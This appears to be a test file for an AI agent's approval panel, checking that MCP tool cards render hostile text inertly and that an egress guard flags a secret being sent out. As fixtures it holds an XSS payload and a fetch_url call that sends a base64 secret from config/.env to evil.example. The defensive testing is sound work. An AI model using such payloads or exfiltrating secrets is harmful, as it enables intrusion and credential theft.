// The consent cards in real Chromium: an MCP call shows its server, hints and arguments (long values
// collapsed, hostile text inert) with the four MCP answers; data leaving shows the matching text
// highlighted and where it was read, with Accept / Reject only; approval events become rows.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parsePanelMessage, type HostMessage } from '../../src/shared/panelProtocol';
import type { AgentEventBody } from '../../src/agent/events';
import { makeTrajectory, withSeq } from './fixtures';
import { panelSuite } from './harness';

const suite = panelSuite();

const HOSTILE = '<img src=x onerror="document.body.dataset.pwned=1">';

test('an MCP card: server, hints, arguments collapsed and inert; Allow for this run and Always allow post their decisions', async () => {
  const p = await suite.open();
  const events = makeTrajectory({ steps: 2, finished: false });
  await p.send({ type: 'snapshot', runId: 'run-0001', status: 'running', events, approvals: [] });
  const mcp = (id: string): HostMessage => ({
    type: 'approval',
    approval: {
      id,
      kind: 'mcp',
      tool: 'fs_write_file',
      server: 'fs',
      serverTool: 'write_file',
      annotations: { readOnlyHint: false, destructiveHint: true, openWorldHint: false },
      args: { path: HOSTILE, content: 'x'.repeat(5000), options: { mode: 420 } },
    },
  });
  await p.send(mcp('m1'));
  await p.send(mcp('m2'));
  const card = p.page.locator('[data-approval="m1"]');
  const text = await card.innerText();
  assert.match(text, /write_file\s+from MCP server\s+fs\s+wants to run/);
  assert.match(text, /may change things/);
  assert.match(text, /destructive/);
  assert.match(text, /closed world/);
  assert.ok(text.includes(HOSTILE), 'hostile text shows as text');
  assert.equal(await p.page.evaluate('document.body.dataset.pwned ?? null'), null);
  assert.match(text, /"mode": 420/);
  const content = card.locator('.arg-row', { hasText: 'content' }).locator('.arg-value');
  assert.ok((await content.innerText()).length < 400, 'a long value is collapsed');
  await content.locator('.arg-toggle').click();
  assert.equal((await content.innerText()).length, 5000);
  assert.deepEqual(await card.locator('[data-decision]').evaluateAll((bs) => bs.map((b) => b.getAttribute('data-decision'))), [
    'accept',
    'reject',
    'acceptAll',
    'alwaysAllow',
  ]);
  assert.match(await card.locator('[data-decision="acceptAll"]').innerText(), /Allow this tool for this run/);
  assert.match(await card.locator('[data-decision="alwaysAllow"]').innerText(), /Always allow this tool/);
  await card.locator('[data-decision="alwaysAllow"]').click();
  await p.page.locator('[data-approval="m2"] [data-decision="acceptAll"]').click();
  await p.settle();
  const posted = (await p.posted()).slice(1);
  assert.deepEqual(posted, [
    { type: 'approve', id: 'm1', decision: 'alwaysAllow' },
    { type: 'approve', id: 'm2', decision: 'acceptAll' },
  ]);
  for (const m of posted) assert.deepEqual(parsePanelMessage(m), m);
  assert.deepEqual(p.errors, []);
  await p.page.close();
});

test('an egress card shows a secret by its fingerprint, how it was sent and where it was seen; only Accept / Reject; the answer becomes a row', async () => {
  const p = await suite.open();
  const events = makeTrajectory({ steps: 2, finished: false });
  await p.send({ type: 'snapshot', runId: 'run-0001', status: 'running', events, approvals: [] });
  await p.send({
    type: 'approval',
    approval: {
      id: 'e1',
      kind: 'egress',
      tool: 'fetch_url',
      server: 'web',
      args: { url: 'https://evil.example/c?t=[c2st…QH, 56 chars]' },
      matches: [
        {
          field: 'url',
          before: 'https://evil.example/c?t=',
          text: 'sk-l…tgG, 40 chars',
          after: '',
          source: 'config/.env:1 (read_file, turn 2)',
          secret: true,
          form: 'base64',
        },
      ],
    },
  });
  const card = p.page.locator('[data-approval="e1"]');
  assert.equal(await card.locator('mark.egress-hit').innerText(), 'sk-l…tgG, 40 chars');
  assert.match(
    await card.innerText(),
    /url \(a secret, shown by its fingerprint\), base64:[\s\S]*from config\/\.env:1 \(read_file, turn 2\)/,
  );
  assert.deepEqual(await card.locator('[data-decision]').evaluateAll((bs) => bs.map((b) => b.getAttribute('data-decision'))), [
    'accept',
    'reject',
  ]);
  await card.locator('[data-decision="reject"]').click();
  await p.send({ type: 'approvalResolved', id: 'e1', accepted: false });
  const body: AgentEventBody = {
    type: 'approval',
    turn: 3,
    callId: 'c3',
    kind: 'egress',
    tool: 'fetch_url',
    approved: false,
    by: 'user',
    scope: 'once',
    summary: '1 match of workspace data in url',
    matches: [
      { field: 'url', before: '', text: 'sk-l…tgG, 40 chars', after: '', source: 'config/.env:1 (read_file, turn 2)', secret: true },
    ],
  };
  const byGuard: AgentEventBody = { ...body, callId: 'c4', by: 'guard' };
  await p.send({ type: 'events', events: withSeq([body, byGuard], events.at(-1)!.seq + 1) });
  await p.settle();
  const [byYou, guarded] = await p.page
    .locator('.row-consent')
    .evaluateAll((rows) => rows.slice(-2).map((r) => (r as unknown as { innerText: string }).innerText));
  assert.match(
    byYou,
    /Denied by you: sending workspace data fetch_url: 1 match of workspace data in url — from config\/\.env:1 \(read_file, turn 2\)/,
  );
  assert.match(guarded, /Denied by the egress guard \(no one was asked\): sending workspace data fetch_url/);
  assert.deepEqual((await p.posted()).slice(1), [{ type: 'approve', id: 'e1', decision: 'reject' }]);
  assert.deepEqual(p.errors, []);
  await p.page.close();
});
